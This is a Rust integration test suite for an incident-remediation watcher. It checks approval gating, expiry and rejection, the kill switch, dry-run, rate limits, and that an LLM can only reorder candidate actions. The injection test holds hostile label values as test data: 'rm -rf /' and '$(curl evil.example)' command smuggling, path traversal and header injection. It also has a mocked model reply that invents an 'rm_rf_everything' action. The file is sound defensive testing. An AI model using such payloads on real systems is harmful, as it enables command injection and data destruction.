//! Safety: approvals gate what needs them (and only an approver can give one), expired or
//! rejected approvals never run, hostile label values are refused and audited, the kill
//! switch, dry-run and rate limits hold, and an LLM can only reorder.

mod support;

use http::StatusCode;
use serde_json::{Value, json};
use std::time::Duration;
use support::*;

fn alert(name: &str, agent: &str, fp: &str) -> Value {
    grafana_alert(
        "firing",
        &[
            ("alertname", name),
            ("agent_id", agent),
            ("severity", "critical"),
        ],
        &[("summary", "test")],
        &rfc3339_now(),
        fp,
    )
}

async fn fire(h: &Harness, a: Value) -> String {
    let (s, v) = h
        .post_alerts("/webhooks/grafana-alerts", &grafana_payload(vec![a]))
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v["summary"]["incidents"][0]
        .as_str()
        .expect("incident id")
        .to_owned()
}

#[tokio::test]
async fn approval_required_actions_never_run_without_an_approver() {
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let h = Harness::start(&config(&awf, ""), dir.path()).await;
    let id = fire(&h, alert("AwfAgentRunaway", "coder", "fp-ap-1")).await;
    let pending = h.wait_pending(1, Duration::from_secs(5)).await;
    let ap = pending[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(pending[0]["incident_id"], id.as_str());
    assert!(
        pending[0]["summary"]
            .as_str()
            .unwrap()
            .contains("disable_agent")
    );
    assert_eq!(h.incident(&id).await["stage"], "awaiting_approval");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        rec.calls().is_empty(),
        "ran before approval: {:?}",
        rec.calls()
    );

    // Without (or with a wrong, or a webhook) token: 401, nothing changes.
    let url = format!("{}/approvals/{ap}/approve", h.base);
    assert_eq!(
        h.http.post(&url).send().await.unwrap().status(),
        StatusCode::UNAUTHORIZED
    );
    for bad in ["nope", HOOK_TOKEN] {
        let (s, _) = h
            .post(&format!("/approvals/{ap}/approve"), bad, json!({}))
            .await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
    }
    let r = h
        .http
        .get(format!("{}/approvals/pending", h.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let r = h
        .http
        .get(format!("{}/watcher/incidents", h.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert!(rec.calls().is_empty());

    // Bob approves: it runs once, recorded as his.
    let (s, a) = h
        .post(
            &format!("/approvals/{ap}/approve"),
            BOB,
            json!({"comment": "go"}),
        )
        .await;
    assert_eq!(
        (s, a["state"].as_str()),
        (StatusCode::OK, Some("approved")),
        "{a}"
    );
    assert_eq!(a["decided_by"], "bob");
    let inc = h.wait_stage(&id, "closed", Duration::from_secs(5)).await;
    let calls = rec.calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(
        (calls[0].method.as_str(), calls[0].path.as_str()),
        ("POST", "/agents/coder/disable")
    );
    assert_eq!(inc["actions"][0]["approved_by"], "bob");
    assert_eq!(inc["autonomous"], false);
    // A second approval of the same request is refused.
    let (s, _) = h
        .post(&format!("/approvals/{ap}/approve"), ALICE, json!({}))
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(rec.calls().len(), 1);
    let audit = h.audit();
    assert!(
        audit
            .iter()
            .any(|e| e["kind"] == "approval_requested" && e["incident_id"] == id.as_str())
    );
    assert!(
        audit
            .iter()
            .any(|e| e["kind"] == "approval_approved" && e["by"] == "bob")
    );
    h.stop().await;
}

#[tokio::test]
async fn rejected_and_expired_approvals_never_run() {
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let h = Harness::start(&config(&awf, "approval_expiry = \"400ms\""), dir.path()).await;
    // Rejected.
    let id = fire(&h, alert("AwfAgentRunaway", "coder", "fp-rej")).await;
    let ap = h.wait_pending(1, Duration::from_secs(5)).await[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let r = h
        .http
        .post(format!("{}/approvals/{ap}/reject?reason=not%20now", h.base))
        .bearer_auth(ALICE)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let inc = h.wait_stage(&id, "closed", Duration::from_secs(2)).await;
    assert_eq!(inc["outcome"], "rejected");
    let (_, a) = h.get(&format!("/approvals/{ap}"), ALICE).await;
    assert_eq!(
        (a["state"].as_str(), a["reason"].as_str()),
        (Some("rejected"), Some("not now"))
    );

    // Expired: nobody answers within approval_expiry.
    let id2 = fire(&h, alert("AwfWorkersSaturated", "coder", "fp-exp")).await;
    let ap2 = h.wait_pending(1, Duration::from_secs(5)).await[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let inc = h.wait_stage(&id2, "closed", Duration::from_secs(3)).await;
    assert_eq!(inc["outcome"], "expired");
    let (s, _) = h
        .post(&format!("/approvals/{ap2}/approve"), ALICE, json!({}))
        .await;
    assert_eq!(
        s,
        StatusCode::CONFLICT,
        "an expired approval cannot be approved"
    );
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(rec.calls().is_empty(), "{:?}", rec.calls());
    assert!(h.audit().iter().any(|e| e["kind"] == "approval_expired"));
    h.stop().await;
}

#[tokio::test]
async fn no_approver_means_nothing_that_needs_one_runs() {
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = config(&awf, "");
    cfg.approvers.clear();
    let h = Harness::start(&cfg, dir.path()).await;
    let id = fire(&h, alert("AwfAgentRunaway", "coder", "fp-noapp")).await;
    // Without approvers the incident API is closed too; read the journal through the audit.
    support::eventually(Duration::from_secs(5), "closed", async || {
        h.audit()
            .iter()
            .any(|e| e["kind"] == "closed" && e["incident_id"] == id.as_str())
    })
    .await;
    let closed = h
        .audit()
        .into_iter()
        .find(|e| e["kind"] == "closed")
        .unwrap();
    assert_eq!(closed["outcome"], "no_approver");
    assert!(rec.calls().is_empty());
    h.stop().await;
}

#[tokio::test]
async fn injection_attempts_in_labels_are_refused_and_audited() {
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    // A command script too: the value would be one argv element, but it is refused anyway.
    let catalogue = format!(
        r#"
[vars]
awf_url = "{awf}"
dir = "{dir}"

[scripts.switch_fallback]
http = {{ url = "{{{{awf_url}}}}/agents/{{{{agent_id}}}}/fallback" }}
params.agent_id = {{ from = ["label:agent_id"], pattern = "[a-z0-9][a-z0-9_-]{{0,63}}" }}

[scripts.touch]
command = ["/usr/bin/touch", "{{{{dir}}}}/{{{{name}}}}"]
params.name = {{ from = ["label:name"], pattern = "[a-z]{{1,16}}" }}
verify = "none"
"#,
        dir = dir.path().display()
    );
    let mut cfg = config(&awf, "");
    cfg.rules.retain(|r| r.name.starts_with("agent failing"));
    cfg.catalogue = Some(
        sluice_watcher::remediation_catalogue::CatalogueSource::Inline(
            sluice_watcher::remediation_catalogue::Catalogue::parse(&catalogue).unwrap(),
        ),
    );
    cfg.rules.push(sluice_watcher::config::Rule {
        name: "touch".into(),
        labels: [("alertname".to_owned(), "Touch".to_owned())].into(),
        findings: Default::default(),
        actions: vec!["touch".into()],
        escalate: None,
        verify_query: None,
    });
    cfg.validate().unwrap();
    let h = Harness::start(&cfg, dir.path()).await;
    let evil = [
        "researcher/../../sim/faults",
        "researcher; rm -rf /",
        "$(curl evil.example)",
        "researcher\r\nX-Injected: 1",
        "-rf",
        "researcher%2F..%2Fx",
        "RESEARCHER",
        &"a".repeat(300),
    ];
    let mut ids = Vec::new();
    for (i, e) in evil.iter().enumerate() {
        ids.push(fire(&h, alert("AwfAgentFailing", e, &format!("fp-evil-{i}"))).await);
    }
    let touch = grafana_alert(
        "firing",
        &[("alertname", "Touch"), ("name", "pwned;id")],
        &[],
        &rfc3339_now(),
        "fp-evil-touch",
    );
    ids.push(fire(&h, touch).await);
    for id in &ids {
        let inc = h.wait_stage(id, "closed", Duration::from_secs(5)).await;
        assert_eq!(inc["outcome"], "refused", "{inc:#}");
        assert!(inc["decision"]["refused"]["param"].is_string());
    }
    assert!(rec.calls().is_empty(), "{:?}", rec.calls());
    assert!(!marker.exists());
    let refused: Vec<Value> = h
        .audit()
        .into_iter()
        .filter(|e| e["kind"] == "action_refused")
        .collect();
    assert_eq!(refused.len(), ids.len());
    assert!(
        refused
            .iter()
            .any(|e| e["value"] == "researcher; rm -rf /" && e["source"] == "label:agent_id")
    );
    // A benign value does run the command script, without a shell.
    let ok = grafana_alert(
        "firing",
        &[("alertname", "Touch"), ("name", "benign")],
        &[],
        &rfc3339_now(),
        "fp-ok-touch",
    );
    let id = fire(&h, ok).await;
    let inc = h.wait_stage(&id, "closed", Duration::from_secs(5)).await;
    assert_eq!(inc["outcome"], "done", "{inc:#}");
    assert!(dir.path().join("benign").exists());
    h.stop().await;
}

#[tokio::test]
async fn kill_switch_dry_run_and_rate_limits_hold() {
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let h = Harness::start(
        &config(
            &awf,
            "rate_limit = { switch_fallback = { max = 2, per = \"1h\" } }",
        ),
        dir.path(),
    )
    .await;
    // Kill switch: only approvers may flip it.
    let (s, _) = h
        .post("/watcher/kill-switch", HOOK_TOKEN, json!({"engaged": true}))
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, _) = h
        .post("/watcher/kill-switch", ALICE, json!({"engaged": true}))
        .await;
    assert_eq!(s, StatusCode::OK);
    let id = fire(&h, alert("AwfAgentFailing", "planner", "fp-kill")).await;
    assert_eq!(
        h.wait_stage(&id, "closed", Duration::from_secs(5)).await["outcome"],
        "kill_switch"
    );
    let (_, st) = h.get("/watcher/status", BOB).await;
    assert_eq!(st["kill_switch"], true);
    let (s, _) = h
        .post("/watcher/kill-switch", ALICE, json!({"engaged": false}))
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(rec.calls().is_empty());

    // Rate limit: the third run of the script within the hour is refused.
    let mut outcomes = Vec::new();
    for i in 0..3 {
        let id = fire(
            &h,
            alert("AwfAgentFailing", "planner", &format!("fp-rl-{i}")),
        )
        .await;
        outcomes.push(h.wait_stage(&id, "closed", Duration::from_secs(5)).await["outcome"].clone());
    }
    assert_eq!(
        outcomes,
        [json!("done"), json!("done"), json!("rate_limited")]
    );
    assert_eq!(rec.calls().len(), 2);
    h.stop().await;

    // Dry run: decided and recorded, never run.
    let (awf, rec) = recorder().await;
    let dir = tempfile::tempdir().unwrap();
    let h = Harness::start(&config(&awf, "dry_run = true"), dir.path()).await;
    let id = fire(&h, alert("AwfAgentFailing", "planner", "fp-dry")).await;
    let inc = h.wait_stage(&id, "closed", Duration::from_secs(5)).await;
    assert_eq!(inc["outcome"], "dry_run");
    assert_eq!(
        inc["actions"][0]["action"]["kind"]["url"],
        format!("{awf}/agents/planner/fallback")
    );
    let id = fire(&h, alert("AwfAgentRunaway", "coder", "fp-dry-2")).await;
    assert_eq!(
        h.wait_stage(&id, "closed", Duration::from_secs(5)).await["outcome"],
        "dry_run"
    );
    assert!(h.pending().await.is_empty());
    assert!(rec.calls().is_empty());
    assert!(h.audit().iter().any(|e| e["kind"] == "action_dry_run"));
    h.stop().await;
}

#[tokio::test]
async fn an_llm_only_reorders_and_never_skips_approval() {
    let (awf, rec) = recorder().await;
    let (llm, llm_rec) = recorder().await;
    // The "model" invents an action and prefers the one needing approval.
    llm_rec.set_reply(
        200,
        json!({"choices": [{"message": {"role": "assistant",
            "content": "Best: [\"rm_rf_everything\", \"disable_agent\", \"switch_fallback\"]"}}]}),
    );
    let dir = tempfile::tempdir().unwrap();
    let extra = format!("[llm]\nurl = \"{llm}/v1\"\nmodel = \"ranker\"\napi_key = \"sk-test\"\n");
    let mut cfg = config(&awf, &extra);
    cfg.rules.insert(
        0,
        sluice_watcher::config::Rule {
            name: "two candidates".into(),
            labels: [("alertname".to_owned(), "AwfAgentFailing".to_owned())].into(),
            findings: Default::default(),
            actions: vec!["switch_fallback".into(), "disable_agent".into()],
            escalate: None,
            verify_query: None,
        },
    );
    let h = Harness::start(&cfg, dir.path()).await;
    let id = fire(&h, alert("AwfAgentFailing", "writer", "fp-llm")).await;
    let pending = h.wait_pending(1, Duration::from_secs(5)).await;
    assert_eq!(pending[0]["script"], "disable_agent");
    let inc = h.incident(&id).await;
    assert_eq!(inc["decision"]["ranked_by"], "llm");
    assert_eq!(
        inc["decision"]["candidates"],
        json!(["disable_agent", "switch_fallback"])
    );
    // The model saw the candidates and was authenticated.
    let call = &llm_rec.calls()[0];
    assert_eq!(call.path, "/v1/chat/completions");
    assert_eq!(call.headers["authorization"], "Bearer sk-test");
    assert!(
        call.body["messages"][1]["content"]
            .as_str()
            .unwrap()
            .contains("switch_fallback")
    );
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(
        rec.calls().is_empty(),
        "approval skipped: {:?}",
        rec.calls()
    );

    // An LLM that is down leaves the rule's order.
    llm_rec.set_reply(500, json!({"error": "overloaded"}));
    let id = fire(&h, alert("AwfAgentFailing", "planner", "fp-llm-down")).await;
    let inc = h.wait_stage(&id, "closed", Duration::from_secs(5)).await;
    assert_eq!(inc["decision"]["ranked_by"], "rule");
    assert_eq!(inc["decision"]["chosen"], "switch_fallback");
    assert_eq!(rec.calls().len(), 1);
    h.stop().await;
}
